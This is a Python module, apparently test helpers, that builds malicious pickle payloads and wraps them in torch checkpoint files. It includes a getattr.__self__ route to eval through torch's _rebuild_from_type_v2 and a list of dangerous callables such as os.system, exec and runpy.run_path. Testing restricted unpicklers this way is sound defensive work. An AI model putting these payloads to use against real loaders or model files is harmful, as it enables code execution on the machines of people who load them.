"""Pickles by hand, as somebody would craft them who wants to run code."""
import io
import pickle
import struct
import zipfile


def name(module, attribute):
    """A global."""
    return b'c' + f'{module}\n{attribute}\n'.encode()


def text(value):
    """A string."""
    raw = value.encode()
    return b'X' + struct.pack('<I', len(raw)) + raw


def call(function, *args):
    """A call of what is on the stack already."""
    return function + b'(' + b''.join(args) + b'tR'


def build(inst, state):
    """A state for an instance."""
    return inst + state + b'b'


def attribute(owner, key):
    """``getattr(owner, key)``."""
    return call(name('builtins', 'getattr'), owner, text(key))


def checkpoint(body, path):
    """Write a checkpoint of torch whose pickle is ``body``.

    Args:
        body (bytes): Opcodes that leave one object on the stack.
        path (Path): The file.

    Returns:
        Path: ``path``.
    """
    with zipfile.ZipFile(path, 'w') as archive:
        archive.writestr('archive/data.pkl', b'\x80\x02' + body + b'.')
        archive.writestr('archive/version', b'3\n')
        archive.writestr('archive/byteorder', b'little')
    return path


def through_getattr(code):
    """Runs ``code`` where ``getattr`` may be called.

    ``getattr.__self__`` is the module of all builtins, ``eval`` among them,
    and a function of torch's own list calls what it is given.
    """
    builtins = attribute(name('builtins', 'getattr'), '__self__')
    return call(
        name('torch._tensor', '_rebuild_from_type_v2'),
        attribute(builtins, 'eval'), name('torch', 'Tensor'),
        b'(' + text(code) + b't', b'N')


class Calls:
    """Calls a function where it is unpickled without care."""

    def __init__(self, function, *args):
        self.function, self.args = function, args

    def __reduce__(self):
        """Called by pickle."""
        return self.function, self.args


_CALLS = {
    'os.system': 'command',
    'posix.system': 'command',
    'subprocess.getoutput': 'command',
    'builtins.eval': 'code',
    'builtins.exec': 'code',
    '__builtin__.eval': 'code',
    'torch.hub.load': 'command',
    'torch.serialization.load': 'command',
    'torch.load': 'command',
    'runpy.run_path': 'command',
    'numpy.load': 'command',
    'mmengine.load': 'command',
    'importlib.import_module': 'antigravity',
    'gslora_mm.utils.tool.run_tool': 'code'
}


def exploits(code, command):
    """dict[str, bytes]: Bodies that would run code, by what they use."""
    found = {'getattr': through_getattr(code)}
    for path, argument in _CALLS.items():
        argument = dict(code=code, command=command).get(argument, argument)
        found[path] = call(name(*path.rsplit('.', 1)), text(argument))
    return found


def pickled(thing):
    """bytes: As Python's own pickle writes it."""
    out = io.BytesIO()
    pickle.dump(thing, out, protocol=2)
    return out.getvalue()
